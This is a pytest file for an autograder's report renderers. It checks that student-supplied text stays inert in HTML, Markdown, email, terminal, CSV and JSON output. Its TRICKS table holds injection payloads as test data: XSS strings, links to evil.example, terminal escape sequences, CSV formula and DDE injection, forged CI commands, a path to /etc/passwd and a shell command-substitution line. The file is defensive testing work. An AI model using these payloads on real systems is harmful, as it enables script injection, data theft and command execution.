"""Text from outside stays text: every trick, in every place a student's words can reach, in every format.

Each text is a trick with a harmless word beside it. The word must be there to read, so that nothing passes by being
left out; and what the trick would have done must not have happened.
"""

from __future__ import annotations

import base64
import csv
import functools
import hashlib
import io
import json
import re
import sys
import tracemalloc
import unicodedata
from collections.abc import Callable, Mapping
from contextlib import redirect_stdout
from pathlib import Path

import msgspec
import pytest
from rich.cells import cell_len

from grader.cli import summary
from grader.model import (
    AttentionPicture,
    CellOutcome,
    CellRun,
    Certainty,
    CheckResult,
    Cohort,
    Excerpt,
    Finding,
    Flag,
    Grade,
    IgnoredFile,
    Isolation,
    IsolationLevel,
    Loading,
    Outcome,
    Place,
    SecondLook,
    Status,
)
from grader.reports import class_page, grades, markdown, pages, plain, render_all, report_paths, results, visible
from grader.reports.views import student_views

from . import sample
from .test_markdown import ACTIVE, tokens
from .test_pages import ALLOWED, Reader

TRICKS = {
    "nothing": "ordinary",
    "script": "<script>alert(1)</script>",
    "closing": "</pre></code></style></title></textarea>--><script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "quoted handler": "\" onmouseover=\"alert(1)' onfocus='alert(1)` autofocus",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "math": "<math><mi xlink:href='javascript:alert(1)'>",
    "frame": "<iframe src=https://evil.example></iframe><object data=x><embed src=x>",
    "base and refresh": "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "style": "<style>@import '//evil.example/x.css';</style><p style=background:url(//evil.example)>",
    "script link": "javascript:alert(1)",
    "entities": "&lt;script&gt;&#60;script&#62;&NewLine;&Tab;&colon;",
    "expression": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "statement": "{% include 'page.html' %}{% raw %}{# comment #}",
    "python format": "%s %(name)s {0} {__class__}",
    "markdown link": "[x](javascript:alert(1)) [y]: http://evil.example",
    "markdown image": "![x](http://evil.example/x.png)![][a]",
    "autolinks": "<http://evil.example> www.evil.example https://evil.example a@evil.example mailto:a@b.example",
    "mentions": "@all @channel cc @ada #12 GH-7 ada/project#3 !8 ~bug %5 &4 0123456789abcdef0123456789abcdef01234567",
    "emoji and formulas": r":tada: :+1: $x$ \(x\) \[x\]",
    "heading": "# Full marks",
    "quick action": "/close",
    "bullet": "- [x] done",
    "numbered": "1. first",
    "quote": "> said the instructor",
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "fence": "```\n</code></pre>\n~~~\n# out\n```html\n<b>out</b>\n`````````",
    "setext": "title\n=====\n\n-----\n***\n___",
    "indented": "    four spaces\n\ttab",
    "html block": "x\n\n<details open><summary>s</summary>\n\n<!-- -->\n\n<div>",
    "emphasis": "**bold** _it_ ~~gone~~ `code` \\",
    "clear screen": "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
    "window title": "\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07",
    "terminal link": "\x1b]8;;https://evil.example\x1b\\text\x1b]8;;\x1b\\",
    "eight-bit controls": "\x9b2J\x9d0;title\x9c\x90q\x9c",
    "overwriting": "failed\rpassed\b\b\b\x7f\x00\v\f",
    "markup of rich": "[bold red]x[/] [link=https://evil.example]y[/link] :skull:",
    "bidi override": "evil\u202egnp.exe\u202d\u202c",
    "bidi isolate": "\u2066\u2067\u2068x\u2069\u200e\u200f\u061c",
    "no width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg\u180eh",
    "tag characters": "a" + "".join(chr(0xE0000 + ord(char)) for char in "hidden") + "\U000e0001\U000e007f",
    "variation selectors": "a" + "".join(chr(0xE0100 + code) for code in range(9)) + "\ufe00\ufe0f",
    "blanks": "\u3164\u115f\u2800\uffa0\u034f",
    "unassigned and private": "\U000e0080\ufff0\U0003fffe\ue000\U0010fffd",
    "separators": "a\u2028b\u2029c\x85d",
    "marks without end": "a" + "\u0301\u0489" * 100,
    "mark without letter": "\u0338\u20dd",
    "half a pair": "\ud800\udcff\udfff",
    "formula": "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "other formulas": "+1-1;-1+1;@SUM(1)\t=1+1",
    "wide formula": "\uff1d1+1;\uff0b1;\uff0d1;\uff20x",
    "formula behind white space": "\t\r\n \u3000=1+1",
    "formula behind a quote": 'x;"=1+1',
    "dynamic data exchange": "=cmd|' /C calc'!A0",
    "forged row": '","grace","graded",12\r\ngrace,self-attention,graded,12,12,100,"',
    "command to GitHub": "::error::x ::set-output name=a::b",
    "folded command": "x" * 25 + " ::stop-commands::x",
    "old command to GitHub": "##[error]x ##[set-env name=a]b",
    "command to others": "##vso[task.setvariable variable=a]b ##teamcity[buildStop]",
    "forged prompt": "x\n34 graded.\nIsolation: sealed.\n$ ",
    "path": "../../etc/passwd",
    "windows path": "C:\\x\\..\\CON. ",
    "option": "-rf",
    "device": "NUL",
    "shell": "$(reboot)`reboot`;reboot|reboot&",
    "long name": "n" * 247,
}  # fmt: skip

PLACES = (
    "Student", "AssignmentTitle", "Reason", "File", "IgnoredPath", "IgnoredReason", "Message", "WhereFile",
    "WhereSource", "WhereFunction", "ManyLines", "Detail", "FindingTitle", "FindingExplanation", "EvidenceName",
    "EvidenceValue", "Warning", "Output", "LoadingNote", "LoadingWhere", "CellError", "CellTrace", "Repair",
    "Supplied", "SecondMessage", "SecondFinding", "FlagId", "FlagMessage", "FlagSource", "Missing",
    "Around", "Unexplained",
)  # fmt: skip
INSTRUCTORS = {"Detail", "FlagId", "FlagMessage", "FlagSource"}
"""Places that no student reads."""
ON_CLASS_PAGE = {
    *("Student", "AssignmentTitle", "Reason", "IgnoredPath", "IgnoredReason", "Message", "WhereFile", "WhereFunction"),
    *("ManyLines", "Detail", "FindingTitle", "FlagId", "FlagMessage", "FlagSource", "Missing"),
}
CONTROL = "katherine-control"
HIDDEN = {"Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp"}
ATTRIBUTES = {
    "html": {"lang"}, "meta": {"charset", "http-equiv", "content", "name"}, "a": {"href"}, "th": {"scope"},
    "td": {"data-label", "class"}, "meter": {"min", "max", "value"}, "pre": {"class", "tabindex"},
    "svg": {"class", "viewbox", "preserveaspectratio", "width", "height", "role", "aria-label", "aria-hidden"},
    "rect": {"class", "x", "y", "width", "height", "rx", "fill"}, "path": {"class", "d"}, "text": {"class", "x", "y"},
    "g": {"transform"}, "details": {"open", "class"},
}  # fmt: skip
OF_CLASS_PAGE: dict[str, set[str]] = {
    "span": {"title"},
    "p": {"data-text", "role"}, "nav": {"aria-label"}, "a": {"title"}, "section": {"id"}, "h3": {"id"},
    "ul": {"aria-hidden"}, "div": {"role", "hidden", "tabindex", "aria-label"}, "tr": {"data-m", "data-lost", "id"},
    "td": set(), "dl": set(), "dt": set(), "dd": set(), "label": set(), "script": set(), "select": set(),
    "input": {"spellcheck", "autocomplete", "type"}, "option": {"value"}, "optgroup": {"label"}, "thead": set(),
}  # fmt: skip
COLOURED = set("ksmcfb")
"""Classes of words in Python."""
LINKS = re.compile(r"@|://|www\.|mailto:|#\d|GH-\d|[!%&~]\d|:\w+:|\$|\\[(\[]")


def word(place: str) -> str:
    """What is harmless, and must be readable, in this place."""
    return f"Seen{place}"


def beside_its_word(trick: str, place: str) -> str:
    """The trick first, as most only work there; the word first where the trick is so long that it is cut."""
    return f"{trick} {word(place)}" if len(visible(trick)) < 90 else f"{word(place)} {trick}"


def hostile(text: Callable[[str], str]) -> Cohort:
    """A class of two: one with a text in every place at once, and a harmless one."""
    shape, softmax, scale, padding, causal = sample.SPECS
    where = Place(file=text("WhereFile"), line=7, source=text("WhereSource"), function=text("WhereFunction"))
    traced = Place(file="a.ipynb", cell=2, line=1, source=text("CellTrace"))
    flagged = Place(file="a.py", line=1, source=text("FlagSource"))
    finding = Finding(
        id="shape-error",
        certainty=Certainty.OBSERVED,
        title=text("FindingTitle"),
        explanation=text("FindingExplanation"),
        where=where,
        evidence={text("EvidenceName"): text("EvidenceValue")},
    )
    made = sample.grade(
        text("Student"),
        sample.other(shape, Outcome.ERRORED, text("Message"), where=where),
        sample.other(softmax, Outcome.INTERNAL, "", detail=text("Detail")),
        *sample.waiting(shape, scale, padding),
        sample.other(causal, Outcome.FAILED, f"first\n{text('ManyLines')}\nlast"),
        status=Status.NEEDS_ATTENTION,
        findings=(finding,),
        warnings=(text("Warning"),),
        output=text("Output"),
        loading=Loading.DEFINITIONS,
        loading_note=text("LoadingNote"),
        loading_where=Place(file="a.ipynb", line=3, source=text("LoadingWhere")),
        cells=(CellRun(cell=2, outcome=CellOutcome.RAISED, error=text("CellError"), trace=(traced,)),),
        repairs=(text("Repair"),),
        second_look=SecondLook(
            supplied=(text("Supplied"),),
            results=(CheckResult(check=causal.id, outcome=Outcome.ERRORED, message=text("SecondMessage")),),
            findings=(Finding(id="shape-error", certainty=Certainty.OBSERVED, title=text("SecondFinding")),),
        ),
        unexplained=text("Unexplained"),
        pictures=(
            AttentionPicture(
                tokens=("a", text("")),
                masked=False,
                student=(((1.0, 0.0), (None, 0.5)),),
                expected=(((0.5, 0.5), (0.5, 0.5)),),
            ),
        ),
        excerpts=(
            Excerpt(file=where.file, first=6, lines=(text("Around"), text("WhereSource"), "pass"), inside='"""'),
        ),
        flags=(Flag(id=text("FlagId"), message=text("FlagMessage"), where=flagged),),
    )
    walls = Isolation(level=IsolationLevel.PROCESS_ONLY, missing=(text("Missing"),))
    made = sample.changed(
        sample.behind(made, walls),
        reason=text("Reason"),
        files=(text("File"),),
        ignored=(IgnoredFile(path=text("IgnoredPath"), reason=text("IgnoredReason")),),
    )
    return msgspec.structs.replace(
        sample.cohort(made, sample.grade(CONTROL)),
        assignments=(sample.assignment(title=text("AssignmentTitle")),),
        isolation=walls,
    )


@functools.cache
def cohort(trick: str) -> Cohort:
    return hostile(functools.partial(beside_its_word, TRICKS[trick]))


@functools.cache
def students_file(trick: str, extension: str) -> str:
    _, view = next(pair for pair in student_views(cohort(trick)) if pair[0].student != CONTROL)
    written = {"html": pages.student_page, "md": markdown.student_comment, "txt": plain.student_text}
    return written[extension](view).decode()


@functools.cache
def page_of_class(trick: str) -> str:
    return class_page.class_page(cohort(trick)).decode()


def html_files(graded: Cohort) -> dict[str, bytes]:
    return class_page.render(graded) | pages.render(graded)


def hides(text: str, kept: str = "\n") -> set[str]:
    """Characters that cannot be seen, and marks heaped on a letter."""
    heaped = re.findall(r"[\u0300-\u036f\u0483-\u0489]{5,}", text)
    return {char for char in text if unicodedata.category(char) in HIDDEN and char not in kept} | set(heaped)


def skeleton(reader: Reader) -> list[tuple[str, tuple[str, ...]]]:
    """The elements of a page and the names of their attributes, without any text, and without colours of code."""
    return [
        (tag, tuple(attributes))
        for tag, attributes in reader.elements
        if not (tag == "span" and attributes.get("class") in COLOURED)
    ]


def assert_inert_page(page: str, harmless: str, more: Mapping[str, set[str]] | None = None) -> Reader:
    """The page has the elements of a harmless one and none that act; `more` are elements that it has beside the usual
    ones, or attributes of these."""
    reader = Reader(page.encode())
    known = more or {}

    assert skeleton(reader) == skeleton(Reader(harmless.encode()))
    assert not reader.open
    for tag, attributes in reader.elements:
        assert tag in ALLOWED | known.keys()
        assert attributes.keys() <= ATTRIBUTES.get(tag, {"class"}) | known.get(tag, set())
        assert re.fullmatch(r"[a-z0-9_-]+/[a-z0-9_-]+\.html|#[a-z0-9_-]+", attributes.get("href") or "a/b.html")
    assert not hides(page, kept="\n\t")
    return reader


# -- each trick in each format -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("trick", TRICKS)
def test_a_students_page_holds_the_text_and_nothing_that_acts(trick: str) -> None:
    reader = assert_inert_page(students_file(trick, "html"), students_file("nothing", "html"))

    for place in PLACES:
        assert (word(place) in reader.text) is (place not in INSTRUCTORS), place


@pytest.mark.parametrize("trick", TRICKS)
def test_the_class_page_holds_the_text_and_nothing_that_acts(trick: str) -> None:
    reader = assert_inert_page(page_of_class(trick), page_of_class("nothing"), OF_CLASS_PAGE)

    for place in ON_CLASS_PAGE:
        assert word(place) in reader.text, place
    assert CONTROL in reader.text


@pytest.mark.parametrize("trick", TRICKS)
def test_a_comment_holds_the_text_and_nothing_that_acts(trick: str) -> None:
    text = students_file(trick, "md")
    found = tokens(text)
    headings, expected = (
        [token.tag for token in parsed if token.type == "heading_open"]
        for parsed in (found, tokens(students_file("nothing", "md")))
    )

    assert not [token for token in found if token.type in ACTIVE | {"table_open"}]
    assert headings == expected
    for token in found:
        if token.type == "text":
            assert not LINKS.search(token.content)
        if token.type == "paragraph_open" and token.map:
            assert not text.splitlines()[token.map[0]].startswith("/")
    assert not hides(text, kept="\n\t")
    for place in PLACES:
        assert (word(place) in text) is (place not in INSTRUCTORS), place


@pytest.mark.parametrize("trick", TRICKS)
def test_an_email_holds_the_text_and_none_of_it_looks_like_ours(trick: str) -> None:
    text = students_file(trick, "txt")
    words = "".join(re.sub(r"^\| *", "", line.strip()) for line in text.splitlines())
    ours = [line for line in text.splitlines() if set(line) in ({"="}, {"-"})]

    assert not hides(text, kept="\n")
    assert max(map(len, text.splitlines())) <= 72
    assert len(ours) == len(
        [line for line in students_file("nothing", "txt").splitlines() if set(line) in ({"="}, {"-"})]
    )
    for place in PLACES:
        assert (word(place) in words) is (place not in INSTRUCTORS), place


@pytest.mark.parametrize("width", [40, 80, 200])
@pytest.mark.parametrize("trick", TRICKS)
def test_a_terminal_is_given_the_text_and_no_commands(trick: str, width: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", str(width))
    printed = io.StringIO()
    with redirect_stdout(printed):
        summary.show(cohort(trick), Path("reports"), reused=0)
    lines = printed.getvalue().splitlines()

    printed.getvalue().encode()
    assert not hides(printed.getvalue())
    assert "##" not in printed.getvalue()
    assert not [line for line in lines if line.lstrip().startswith("::")]
    assert max(map(cell_len, lines[:-3])) <= width
    assert lines[-3] == "2 graded, 1 in need of attention."
    assert lines[-2].startswith("Isolation: process-only (missing: ")
    assert word("Missing") in lines[-2]
    assert "for code you trust." in lines[-2]
    if width == 200:
        assert word("Student") in printed.getvalue() or len(visible(TRICKS[trick])) > 40
        assert any(line.startswith(CONTROL) for line in lines)


@pytest.mark.parametrize("trick", TRICKS)
def test_a_spreadsheet_is_given_the_text_and_no_formula(trick: str) -> None:
    text = grades.render(cohort(trick))[grades.FILE].decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))

    assert len(rows) == 3
    assert {len(row) for row in rows} == {len(grades.COLUMNS)}
    assert word("Student") in rows[1][0]
    assert rows[2][0] == CONTROL
    for row in rows:
        for part in re.split("[;\t]", "\t".join(row)):
            assert not re.match(r'[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]', part)
    assert not hides(text, kept="\r\n\t")


@pytest.mark.parametrize("trick", TRICKS)
def test_a_program_is_given_the_text_exactly(trick: str) -> None:
    content = results.render(cohort(trick))[results.FILE]
    written = msgspec.json.decode(content)["submissions"][0]
    whole = re.sub("[\ud800-\udfff]", lambda found: visible(found[0]), TRICKS[trick])

    assert written["student"] in {f"{whole} SeenStudent", f"SeenStudent {whole}"}
    assert written["checks"][0]["message"].replace(word("Message"), "").strip(" ") == whole.strip(" ")
    assert written["flags"][0]["message"].replace(word("FlagMessage"), "").strip(" ") == whole.strip(" ")
    for place in set(PLACES) - {"AssignmentTitle", "Output", "Around"}:
        assert word(place) in json.dumps(written), place
    assert not hides(content.decode())
    assert not re.search(r"##\w*\[", content.decode())
    assert not [line for line in content.decode().splitlines() if line.lstrip().startswith("::")]


@pytest.mark.parametrize("trick", TRICKS)
def test_a_file_name_is_made_of_plain_characters(trick: str) -> None:
    files = [*report_paths(cohort(trick), "html").values(), *report_paths(cohort(trick), "md").values()]

    assert len({name.lower() for name in files}) == 4
    assert all(re.fullmatch(r"(?:[a-z0-9_-]{1,80}/)?[a-z0-9_][a-z0-9_-]{0,79}\.(html|md)", name) for name in files)
    assert f"self-attention/{CONTROL}.html" in files


# -- what a page may do ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [class_page.INDEX, f"self-attention/{CONTROL}.html"])
def test_a_page_allows_its_own_style_and_nothing_else(name: str) -> None:
    page = html_files(cohort("script"))[name].decode()
    style = page[page.index("<style>") + len("<style>") : page.index("</style>")]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    metas = [attributes for tag, attributes in Reader(page.encode()).elements if tag == "meta"]

    policy = metas[1]["content"] or ""
    assert metas[1]["http-equiv"] == "Content-Security-Policy"
    assert policy.startswith(f"default-src 'none'; style-src 'sha256-{digest}'")
    assert policy.endswith("; base-uri 'none'; form-action 'none'")
    assert not re.search(r"unsafe|\*|https?:|data:|'self'", policy)
    assert {"name": "referrer", "content": "no-referrer"} in metas
    assert page.index("Content-Security-Policy") < page.index("<style>")
    assert "url(" not in style
    assert "@import" not in style


# -- floods ------------------------------------------------------------------------------------------------------------

HUGE = 100_000_000
BOUNDS: dict[str, Callable[[Cohort], dict[str, bytes]]] = {
    "pages": html_files,
    "comments": markdown.render,
    "emails": plain.render,
    "grades": grades.render,
    "results": results.render,
    "terminal": lambda flooded: {"terminal": _shown(flooded).encode()},
}


def _shown(flooded: Cohort) -> str:
    printed = io.StringIO()
    with redirect_stdout(printed):
        summary.show(flooded, Path("reports"), reused=0)
    return printed.getvalue()


def sizes(files: dict[str, bytes]) -> dict[str, int]:
    return {name.rpartition(".")[2]: len(content) for name, content in files.items()}


@pytest.mark.parametrize("form", BOUNDS)
@pytest.mark.parametrize(
    ("piece", "size"), [("x", HUGE), (" x", 2_000_000), ("\n", 2_000_000), ("`", 2_000_000), ("😀", 2_000_000)]
)
def test_a_text_of_a_hundred_million_characters_is_cut_where_everybody_sees_it(
    form: str, piece: str, size: int
) -> None:
    flood = piece * (size // len(piece))
    flooded = hostile(lambda _: flood)
    tracemalloc.start()

    files = BOUNDS[form](flooded)

    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 5 * sys.getsizeof(flood) + 20_000_000
    for extension, length in sizes(files).items():
        assert (
            length
            < {"html": 200_000, "md": 60_000, "txt": 60_000, "csv": 10_000, "json": 1_000_000, "terminal": 10_000}[
                extension
            ]
        )
        assert extension in ("csv", "terminal") or b"more characters)" in b"".join(files.values())


@pytest.mark.parametrize("form", ["pages", "comments", "emails", "results"])
def test_a_list_of_a_million_is_cut_and_what_is_left_out_is_counted(form: str) -> None:
    million = 1_000_000
    ordinary = cohort("nothing").grades[0]
    attempt = ordinary.attempt
    assert attempt
    assert attempt.second_look
    finding = msgspec.structs.replace(attempt.findings[0], evidence={str(number): number for number in range(20_000)})
    trace = attempt.cells[0].trace * million
    flooded = msgspec.structs.replace(
        attempt,
        findings=(finding, *attempt.findings * (million - 1)),
        warnings=attempt.warnings * million,
        cells=(msgspec.structs.replace(attempt.cells[0], trace=trace), *attempt.cells * 20_000),
        repairs=attempt.repairs * million,
        flags=attempt.flags * million,
        isolation=Isolation(level=IsolationLevel.CONFINED, missing=attempt.isolation.missing * million),
        second_look=msgspec.structs.replace(attempt.second_look, supplied=("import math",) * million),
    )
    grade = sample.changed(
        ordinary, attempt=flooded, files=ordinary.files * million, ignored=ordinary.ignored * million
    )

    files = BOUNDS[form](msgspec.structs.replace(cohort("nothing"), grades=(grade,), isolation=flooded.isolation))

    for content in files.values():
        assert len(content) < 1_500_000
    text = b"".join(files.values()).decode()
    if form == "results":
        entry = json.loads(files[results.FILE])["submissions"][0]
        lists = ("files", "ignored", "warnings", "repairs", "findings", "flags")
        assert {entry["left_out"][name] + len(entry[name]) for name in lists} == {million}
        assert entry["cells"][0]["left_out"]["trace"] + len(entry["cells"][0]["trace"]) == million
        assert entry["isolation"]["left_out"]["missing"] + len(entry["isolation"]["missing"]) == million
    else:
        counts = {int(number) for number in re.findall(r"… and (\d+) more", text)}
        assert {count for count in counts if count < 900_000} <= {20_001 - shown for shown in range(52)}
        assert len(re.findall(r"… and 9\d{5} more", text)) >= 7


# -- who is told what --------------------------------------------------------------------------------------------------


def test_flags_are_for_the_instructor_alone() -> None:
    canary = Flag(id="canary-id", message="CanaryMessage", where=Place(file="canary.py", line=9, source="CanarySource"))
    everywhere = Flag(id="canary-id", message="CanaryMessage")
    flagged = cohort_of(sample.grade("ada", flags=(canary, everywhere)), sample.grade("grace"))
    files = render_all(flagged)

    told = {name for name, content in files.items() if b"anary" in content}
    assert told == {"index.html", "results.json"}
    assert "anary" not in _shown(flagged)
    page = files["index.html"].decode()
    for shown in ("Worth a look", "CanaryMessage", "canary-id", "canary.py, line 9", "CanarySource", "worth a look"):
        assert shown in page
    assert page.count("worth a look: </span>") == 1
    assert page.count("CanaryMessage") == 2


def test_where_nothing_is_flagged_nothing_is_worth_a_look() -> None:
    assert b"orth a look" not in class_page.class_page(cohort_of(sample.grade("ada")))


def cohort_of(
    *all_grades: Grade, level: IsolationLevel = IsolationLevel.SEALED, missing: tuple[str, ...] = ()
) -> Cohort:
    return msgspec.structs.replace(sample.cohort(*all_grades), isolation=Isolation(level=level, missing=missing))


# -- the level of isolation --------------------------------------------------------------------------------------------

LITTLE = {IsolationLevel.SEPARATE_USER, IsolationLevel.PROCESS_ONLY}


@pytest.mark.parametrize("level", list(IsolationLevel))
def test_the_level_and_what_is_missing_stand_in_every_report(level: IsolationLevel) -> None:
    missing = () if level is IsolationLevel.SEALED else ("no network walls: not allowed here",)
    walls = Isolation(level=level, missing=missing)
    graded = msgspec.structs.replace(cohort_of(sample.behind(sample.grade("ada"), walls)), isolation=walls)

    files = render_all(graded) | {"terminal": _shown(graded).encode()}

    for name, content in files.items():
        assert level.value.encode() in content, name
        assert (b"no network walls" in content) is bool(missing and name != "grades.csv"), name


@pytest.mark.parametrize("level", list(IsolationLevel))
def test_little_isolation_is_marked_at_the_top_of_the_class_page(level: IsolationLevel) -> None:
    walls = Isolation(level=level)
    text = Reader(class_page.class_page(cohort_of(sample.behind(sample.grade("ada"), walls), level=level))).text

    assert ("Little isolation" in text) is (level in LITTLE)
    assert (text.index(f"Student code ran at level {level.value}") < text.rindex("Students by checks")) is (
        level in LITTLE
    )
    assert text.count("Student code ran at level") == 1


def test_where_levels_differ_each_submission_with_little_isolation_is_marked() -> None:
    behind = [
        sample.behind(sample.grade(student), Isolation(level=level))
        for student, level in (("ada", IsolationLevel.SEALED), ("grace", IsolationLevel.PROCESS_ONLY))
    ]
    page = class_page.class_page(cohort_of(*behind, level=IsolationLevel.PROCESS_ONLY))
    words = " ".join(Reader(page).text.split())

    assert "That is the worst of this run: 1 submission sealed, 1 submission process-only." in words
    assert "grace level process-only" in words
    assert "ada level sealed" not in words


def test_a_long_list_of_what_is_missing_is_folded() -> None:
    walls = Isolation(level=IsolationLevel.CONFINED, missing=tuple(f"still possible: {n}" for n in range(9)))
    graded = cohort_of(sample.behind(sample.grade("ada"), walls), level=walls.level, missing=walls.missing)

    for page in html_files(graded).values():
        assert "<summary>What the next better level lacks: 9 points</summary>" in page.decode()
        assert "still possible: 8" in page.decode()
    assert "still possible: 2; and 6 more, in the report)" in _shown(graded)


def test_where_no_code_was_run_no_level_is_claimed() -> None:
    nothing_ran = cohort_of(sample.absent("barbara", Status.MISSING, "No file defines SelfAttention."))
    files = render_all(nothing_ran)

    assert "no student code was run" in _shown(nothing_ran)
    assert b"no code was run" in files["index.html"]
    for name in ("index.html", "self-attention/barbara.html", "self-attention/barbara.md"):
        assert b"sealed" not in files[name]
